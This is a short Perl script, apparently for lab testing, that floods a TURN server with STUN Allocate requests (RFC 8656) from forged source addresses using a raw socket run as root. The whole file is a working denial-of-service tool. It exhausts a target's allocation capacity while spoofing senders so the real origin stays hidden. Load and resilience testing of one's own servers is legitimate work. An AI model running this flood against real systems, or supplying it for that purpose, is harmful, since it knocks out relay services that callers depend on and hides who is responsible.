# Sends allocation requests (RFC 8656 section 7.1) whose senders are forged: addresses of this network that
# nobody has. To be run as root on a host of the lab.
#
#     perl turn-flood.pl TARGET NETWORK ADDRESSES PACKETS
use strict;
use warnings;
use Socket;

my ($target, $network, $addresses, $packets) = @ARGV;
my $destination = inet_aton($target);
socket(my $raw, AF_INET, SOCK_RAW, 255) or die "raw socket: $!";
for my $n (0 .. $packets - 1) {
    my $sender = inet_aton("$network." . (100 + $n % $addresses));
    my $port   = 1024 + int($n / $addresses) % 64000;
    my $stun   = pack('nnNa12', 0x0003, 0, 0x2112a442, sprintf('%012d', $n));
    my $udp    = pack('nnnn', $port, 3478, 8 + length $stun, 0) . $stun;
    my $ip     = pack('CCnnnCCna4a4', 0x45, 0, 20 + length $udp, 0, 0, 64, 17, 0, $sender, $destination);
    send($raw, $ip . $udp, 0, pack_sockaddr_in(0, $destination));
}
